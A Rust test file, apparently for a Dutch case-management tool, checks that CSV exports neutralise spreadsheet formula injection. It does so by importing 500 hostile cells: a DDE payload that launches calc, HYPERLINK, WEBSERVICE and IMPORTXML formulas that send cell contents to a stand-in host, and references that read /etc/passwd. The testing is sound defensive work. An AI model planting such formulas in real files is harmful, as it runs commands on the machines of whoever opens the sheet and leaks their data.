//! What a spreadsheet would run, in lists that are opened in one.
//!
//! `tests/long/spreadsheet.sh` opens the same lists in LibreOffice.

use crate::office::{Office, arg};
use std::fs;
use std::path::Path;

/// How many cells are tried.
const CELLS: usize = 500;

/// What somebody would put into a tip so that it runs when the list of tips is opened; no two alike.
fn cells() -> Vec<String> {
    let formulas = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1;1)",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://voorbeeld.invalid/?x=\"&A1;\"klik\")",
        "=WEBSERVICE(\"http://voorbeeld.invalid/\"&A1)",
        "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
        "='file:///etc/passwd'#$passwd.A1",
        "-2+3+cmd|' /C calc'!A0",
        "=IMPORTXML(CONCAT(\"http://voorbeeld.invalid/?\";A1);\"//a\")",
        "+31612345678",
        "\u{ff1d}1+1",
        "=SUM(1,1)",
        "={1;2}",
    ];
    let before = [
        "", "\t", "\r", "\n", " ", "\u{a0}", "\u{feff}", "\"", "x;", "x\t", "x\n", "x,", "\";\"",
        ";", "',", "x;\"", "\r\n", "x\r\n ", "; ", "\u{200b}",
    ];
    (0..CELLS)
        .map(|i| {
            let (lead, formula) = (before[i % 20], formulas[i / 20 % 15]);
            // The number, so that no two are one reference, where it changes nothing.
            format!("{lead}{formula}+{i}")
        })
        .collect()
}

/// The tips' own file, which nobody made harmless.
fn raw(cells: &[String]) -> Vec<u8> {
    let mut sheet = csv::Writer::from_writer(Vec::new());
    let header = ["Meldingnummer", "Datum melding", "Thema", "Omschrijving"];
    sheet.write_record(header).expect("in memory");
    for cell in cells {
        let row = [cell, "01-03-2026", "Wapens", "tekst"];
        sheet.write_record(row).expect("in memory");
    }
    sheet.into_inner().expect("in memory")
}

/// Whether something would be a formula, whatever of these a spreadsheet takes for the end of a
/// cell, and however it reads quotes.
fn formulas_in(text: &str) -> Vec<&str> {
    let ends = [&[','][..], &[';'], &['\t'], &[',', ';', '\t']];
    let mut found = Vec::new();
    for end in ends {
        for line in text.split(['\r', '\n']) {
            let cells = line
                .split(end)
                .map(|cell| cell.trim_start_matches(['"', ' ', '\u{a0}', '\u{feff}', '\u{200b}']));
            let formula =
                |cell: &&str| cell.starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}']);
            found.extend(cells.filter(formula));
        }
    }
    found
}

#[test]
fn no_cell_of_a_list_is_a_formula_to_any_spreadsheet() {
    let office = Office::open();
    let cells = cells();
    let exported = raw(&cells);
    let bad = formulas_in(std::str::from_utf8(&exported).expect("UTF-8")).len();
    assert!(bad > CELLS, "before: {bad}");
    let file = office.write("tips.csv", &exported);
    let imported = office.json(&["signal", "import", "--profile", "mma", arg(&file)]);
    assert_eq!(imported["imported"], CELLS);
    let title = office.write("title.txt", &cells[8]);
    let title = format!("@{}", arg(&title));
    office.done(&["case", "new", "--title", &title, "--purpose", &title]);

    let keep = std::env::var_os("KLUIS_TEST_SHEETS");
    for (name, line) in [
        ("signals", &["signal", "list"][..]),
        ("cases", &["case", "list"]),
        ("log", &["log", "list"]),
        ("terms", &["retention", "list"]),
    ] {
        let listed = office.done(&[line, &["--format", "csv"]].concat());
        let mut rows = csv::Reader::from_reader(listed.as_bytes());
        let rows: Vec<_> = rows.records().collect::<Result<_, _>>().expect("CSV");
        assert!(!rows.is_empty(), "{name}");
        if name == "signals" {
            // The text is there, with an apostrophe where a formula would begin and nowhere else.
            let read: Vec<String> = rows.iter().map(|row| row[2].replace('\'', "")).collect();
            let kept = cells.iter().filter(|cell| {
                let cell = kluis_trim(cell).replace('\'', "");
                read.contains(&cell)
            });
            assert!(kept.count() > CELLS * 9 / 10, "{read:?}");
        }
        assert_eq!(formulas_in(&listed), Vec::<&str>::new(), "{name}");
        if let Some(folder) = &keep {
            fs::write(Path::new(folder).join(format!("{name}.csv")), &listed).expect("kept");
        }
    }
    if let Some(folder) = keep {
        fs::write(Path::new(&folder).join("raw.csv"), exported).expect("kept");
    }
}

fn kluis_trim(cell: &str) -> &str {
    kluis::import::profile::trim(cell)
}
